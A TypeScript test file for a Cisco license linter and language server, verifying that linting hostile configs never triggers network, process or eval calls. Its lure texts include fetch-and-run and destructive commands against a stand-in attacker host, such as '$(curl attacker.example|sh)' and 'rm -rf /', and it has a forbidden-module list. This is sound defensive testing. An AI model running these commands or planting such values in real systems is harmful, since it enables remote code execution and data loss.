// No network and no code execution from workspace content (issue 7). Linting a file must never
// open a socket, resolve a name, start a process or a worker, or compile a string as code, whatever
// the file says (URLs, hostnames, `$(...)`, EEM and Tcl scripts, a $schema URL in the settings file).
//
// The proof is at run time: the CLI (the engine, the settings file, --fix) and the language server
// over stdio run with test/hostile/guard.cjs preloaded, which records and refuses every such call,
// and with --disallow-code-generation-from-strings. Every example, every test fixture and a folder
// of hostile texts goes through both; the guard's log must stay empty.
//
// The static check of the bundles is weaker, and says so: dist/server.js does contain
// require("child_process") and require("net"), both inside vscode-languageserver's node support
// (files.js: resolving global npm/yarn modules, which this server never calls; vscode-jsonrpc's
// main.js: the pipe and socket transports, unused with --stdio and node-ipc). The test pins those
// two places so that a new one is noticed; the run-time check above is what shows they stay unused.
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { cpSync, existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { extname, join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { after, before, describe, it } from 'node:test';
import { LspClient, SERVER } from '../lsp/client';

const ROOT = join(__dirname, '..', '..');
const CLI = join(ROOT, 'dist', 'cli.js');
const GUARD = join(__dirname, 'guard.cjs');
const NODE_ARGS = ['--require', GUARD, '--disallow-code-generation-from-strings'];

/** Texts that invite a linter to reach out: URLs to fetch, names to resolve, commands to run. */
function writeHostileTexts(dir: string): void {
  const lure = [
    'version 17.9', 'hostname $(touch /tmp/cll-pwned)', 'ip name-server 203.0.113.53', 'ip domain lookup', 'ip http client source-interface Vlan1',
    'service call-home', 'call-home', ' contact-email-addr `reboot`@example.com', ' profile "CiscoTAC-1"', '  active', '  destination transport-method http',
    '  destination address http http://attacker.example:8080/$(curl attacker.example|sh)', ' profile "evil"', '  destination address http https://localhost:1/;rm -rf /',
    'license smart transport smart', 'license smart url smart https://smartreceiver.cisco.com/licservice/license',
    'license smart url cslu http://cslu.local:8182/cslu/v1/pi', 'crypto pki trustpoint SLA-TrustPoint', ' enrollment url http://ca.example/certsrv/mscep/mscep.dll',
    ' revocation-check crl', 'alias exec pwn ; rm -rf / ; curl http://attacker.example', 'event manager applet PWN', ' event timer countdown time 1',
    ' action 1.0 cli command "enable"', ' action 2.0 cli command "copy http://attacker.example/x flash:"', '! lint-disable-next-line $(id)', 'ntp server time.example.com',
    'tclsh', 'exec "rm -rf /"', 'tclquit', 'end', '',
  ].join('\n');
  writeFileSync(join(dir, 'lure-running-config.cfg'), lure);
  writeFileSync(join(dir, 'lure-show-tech.txt'), `C9300#show running-config\n${lure}\nC9300#show license status\nSmart Licensing Using Policy:\n  Status: ENABLED\nTransport:\n  Type: cslu\n  Cslu address: http://\\\\attacker\\share\\x\n`);
  writeFileSync(join(dir, '.cisco-license-lint.json'), JSON.stringify({ $schema: 'http://schema.attacker.example/s.json', rules: { 'http-destination': 'warning' }, ignore: ['//attacker.example/share/**'] }));
  writeFileSync(join(dir, 'binary.bin'), Buffer.from(Array.from({ length: 70_000 }, (_, i) => (i * 7919) % 256)));
  writeFileSync(join(dir, 'nul.cfg'), `version 16.12\0\0\0call-home\0`);
  writeFileSync(join(dir, 'utf16le.cfg'), Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(lure, 'utf16le')]));
  const be = Buffer.from(lure, 'utf16le');
  be.swap16();
  writeFileSync(join(dir, 'utf16be.cfg'), Buffer.concat([Buffer.from([0xfe, 0xff]), be]));
  writeFileSync(join(dir, 'invalid-utf8.cfg'), Buffer.concat([Buffer.from(lure.slice(0, 200)), Buffer.from([0xff, 0xc0, 0xaf, 0xe2, 0x82]), Buffer.from(lure.slice(200))]));
  writeFileSync(join(dir, 'lone-cr.cfg'), lure.replace(/\n/g, '\r'));
  writeFileSync(join(dir, 'deep-indent.cfg'), ['call-home', ...Array.from({ length: 2000 }, (_, i) => `${' '.repeat(i + 1)}destination address http http://h${i}.example/`)].join('\n'));
  const show = readFileSync(join(ROOT, 'examples', 'show-tech-license-with-running-config.txt'), 'utf8');
  writeFileSync(join(dir, 'truncated-show-tech.txt'), show.slice(0, Math.floor(show.length / 2) + 3));
}

function filesUnder(dir: string): string[] {
  return readdirSync(dir).sort().flatMap((name) => {
    const p = join(dir, name);
    return statSync(p).isDirectory() ? filesUnder(p) : [p];
  });
}

function guardLog(path: string): string[] {
  return existsSync(path) ? readFileSync(path, 'utf8').split('\n').filter(Boolean) : [];
}

const built = existsSync(CLI) && existsSync(SERVER);

describe('no network and no code execution from workspace content', { skip: built ? false : 'dist/ is not built (run npm run build)' }, () => {
  let dir: string;
  let hostile: string;
  let log: string;
  let files: string[];
  before(() => {
    dir = mkdtempSync(join(tmpdir(), 'cll-guard-'));
    hostile = join(dir, 'hostile');
    mkdirSync(hostile);
    writeHostileTexts(hostile);
    log = join(dir, 'guard.log');
    files = [...filesUnder(join(ROOT, 'examples')), ...filesUnder(join(ROOT, 'test', 'fixtures')), ...filesUnder(hostile)];
  });
  after(() => rmSync(dir, { recursive: true, force: true }));

  it('the guard itself refuses and records each kind of call (so an empty log means something)', () => {
    const probes = [
      "require('child_process').spawnSync('true')", "require('node:child_process').exec('true')", "require('child_process').fork('x')",
      "new (require('worker_threads').Worker)('0', { eval: true })", "require('net').createConnection(9, '127.0.0.1')",
      "new (require('net').Socket)().connect(9, '127.0.0.1')", "require('tls').connect(9, '127.0.0.1')", "require('http').get('http://127.0.0.1:9/')",
      "require('https').request('https://127.0.0.1:9/')", "require('dgram').createSocket('udp4')", "require('dns').lookup('example.com', () => {})",
      "require('dns').promises.resolve4('example.com')", "fetch('http://127.0.0.1:9/')", "require('vm').runInNewContext('1')",
    ];
    const probeLog = join(dir, 'probe.log');
    for (const code of probes) {
      const r = spawnSync(process.execPath, [...NODE_ARGS, '-e', `try { ${code}; console.log('allowed') } catch (e) { console.log(e.message) }`], { encoding: 'utf8', env: { ...process.env, CLL_GUARD_LOG: probeLog } });
      assert.match(r.stdout, /^guard: .* refused/, `${code}: ${r.stdout}${r.stderr}`);
    }
    assert.equal(guardLog(probeLog).length, probes.length);
    for (const code of ["eval('1')", "new Function('return 1')()"]) {
      const r = spawnSync(process.execPath, [...NODE_ARGS, '-e', `try { ${code}; console.log('allowed') } catch (e) { console.log(e.message) }`], { encoding: 'utf8' });
      assert.match(r.stdout, /Code generation from strings disallowed/, code);
    }
  });

  it('the CLI (engine, settings files, --fix) on every example, fixture and hostile text', () => {
    const env = { ...process.env, CLL_GUARD_LOG: log };
    const lintRun = spawnSync(process.execPath, [...NODE_ARGS, CLI, '--format', 'sarif', join(ROOT, 'examples'), join(ROOT, 'test', 'fixtures'), hostile], { encoding: 'utf8', env, maxBuffer: 64 * 1048576 });
    assert.ok(lintRun.status === 0 || lintRun.status === 1, `exit ${lintRun.status}: ${lintRun.stderr}`);
    const results = JSON.parse(lintRun.stdout).runs[0].results;
    assert.ok(results.length > 100, `${results.length} results`);
    assert.ok(results.some((r: any) => r.locations[0].physicalLocation.artifactLocation.uri.endsWith('lure-running-config.cfg')), 'the lure was linted');
    // --fix writes: on a copy.
    const copy = join(dir, 'fix-copy');
    cpSync(hostile, copy, { recursive: true });
    cpSync(join(ROOT, 'examples'), join(copy, 'examples'), { recursive: true });
    const fixRun = spawnSync(process.execPath, [...NODE_ARGS, CLI, '--fix', copy], { encoding: 'utf8', env, maxBuffer: 64 * 1048576 });
    assert.ok(fixRun.status === 0 || fixRun.status === 1, `exit ${fixRun.status}: ${fixRun.stderr}`);
    assert.match(fixRun.stderr, /fixed \d+ problem/);
    assert.deepEqual(guardLog(log), []);
    assert.equal(guardLog(`${log}.loaded`).filter((l) => l.includes('cli.js') && !l.includes('(worker thread)')).length, 2, 'both CLI runs were guarded');
  });

  it('the language server over stdio: lint files from disk, open each, hover, code actions, completion, symbols', async () => {
    process.env.CLL_GUARD_LOG = log;
    const client = new LspClient(['--stdio'], NODE_ARGS);
    delete process.env.CLL_GUARD_LOG;
    try {
      await client.initialize({ workspace: { configuration: true }, textDocument: { publishDiagnostics: { relatedInformation: true }, completion: { completionItem: { snippetSupport: true } } } });
      const uris = files.map((f) => pathToFileURL(f).href);
      const fromDisk = await client.request('cisco-license-lint/lintFiles', { uris }, 60_000);
      assert.ok(fromDisk.linted > 50, JSON.stringify(fromDisk));
      let published = 0;
      for (const [i, file] of files.entries()) {
        const uri = `${uris[i]}#open`; // a URI of its own, so the disk diagnostics above do not answer for it
        const ext = extname(file).toLowerCase();
        const languageId = ext === '.cfg' ? 'cisco-config' : ext === '.txt' ? 'cisco-show' : 'plaintext';
        const text = readFileSync(file).toString(ext === '.cfg' && file.includes('utf16') ? 'utf16le' : 'utf8');
        client.notify('textDocument/didOpen', { textDocument: { uri, languageId, version: 1, text } });
        const d = await client.waitFor('textDocument/publishDiagnostics', (p) => p.uri === uri, 30_000);
        published += d.diagnostics.length;
        const td = { uri };
        for (const x of d.diagnostics.slice(0, 5)) {
          await client.request('textDocument/hover', { textDocument: td, position: x.range.start });
          await client.request('textDocument/codeAction', { textDocument: td, range: x.range, context: { diagnostics: [x] } });
          await client.request('textDocument/definition', { textDocument: td, position: x.range.start });
        }
        await client.request('textDocument/codeAction', { textDocument: td, range: { start: { line: 0, character: 0 }, end: { line: 1e6, character: 0 } }, context: { diagnostics: [], only: ['source.fixAll.cisco-license-lint'] } });
        await client.request('textDocument/completion', { textDocument: td, position: { line: 1, character: 0 } });
        await client.request('textDocument/documentSymbol', { textDocument: td });
        await client.request('textDocument/foldingRange', { textDocument: td });
        client.notify('textDocument/didClose', { textDocument: td });
      }
      assert.ok(published > 100, `${published} diagnostics`);
      assert.equal(await client.shutdown(), 0, client.stderr);
    } finally {
      client.kill();
    }
    assert.deepEqual(guardLog(log), []);
    assert.equal(guardLog(`${log}.loaded`).filter((l) => l.includes('server.js --stdio')).length, 1, 'the server ran guarded');
  });

  it('the bundles: no process, socket, DNS, worker or vm module outside the two places vscode-languageserver keeps them', () => {
    const FORBIDDEN = new Set(['child_process', 'net', 'tls', 'http', 'https', 'http2', 'dgram', 'dns', 'dns/promises', 'worker_threads', 'vm', 'cluster', 'inspector']);
    // Module (as esbuild's section comments name it) -> the forbidden modules it may require.
    const ALLOWED: Record<string, string[]> = {
      // resolveGlobalNodePath/resolveGlobalYarnPath/resolveModulePath spawn npm or yarn; this server calls none of them.
      'node_modules/vscode-languageserver/lib/node/files.js': ['child_process'],
      // createClientPipeTransport/createClientSocketTransport and their server-side twins; unused with --stdio and node-ipc.
      'node_modules/vscode-jsonrpc/lib/node/main.js': ['net'],
    };
    // The CLI lints a fleet on worker threads running its own bundle (issue 16); the server and the
    // extension never start one.
    const CLI_ALLOWED: Record<string, string[]> = { 'server/src/cli/fleet.ts': ['worker_threads'] };
    for (const [bundle, allowed] of [[CLI, CLI_ALLOWED], [SERVER, ALLOWED]] as const) {
      const lines = readFileSync(bundle, 'utf8').split('\n');
      let section = '(prelude)';
      const found: string[] = [];
      for (const line of lines) {
        const header = /^\s*\/\/ (\S+\.(?:js|ts|cjs|mjs))$/.exec(line);
        if (header) section = header[1];
        for (const m of line.matchAll(/\b(?:require|import)\(\s*["'](?:node:)?([a-z_/0-9]+)["']\s*\)/g)) {
          if (!FORBIDDEN.has(m[1])) continue;
          const owner = Object.keys(allowed).find((suffix) => section.endsWith(suffix));
          if (!owner || !(allowed as Record<string, string[]>)[owner].includes(m[1])) found.push(`${m[1]} in ${section}`);
        }
        assert.doesNotMatch(line, /(?<![\w.])eval\(|new Function\(/, `code from a string in ${bundle} (${section})`);
      }
      assert.deepEqual(found, [], bundle);
    }
    // Our own sources import none of them at all.
    for (const file of filesUnder(join(ROOT, 'server', 'src')).filter((f) => f.endsWith('.ts'))) {
      const text = readFileSync(file, 'utf8');
      for (const m of text.matchAll(/from\s+['"](?:node:)?([a-z_/0-9]+)['"]|require\(\s*['"](?:node:)?([a-z_/0-9]+)['"]\s*\)/g)) {
        const name = m[1] ?? m[2];
        if (name === 'worker_threads' && file.endsWith(join('server', 'src', 'cli', 'fleet.ts'))) continue;
        assert.ok(!FORBIDDEN.has(name), `${file} imports ${name}`);
      }
    }
  });
});
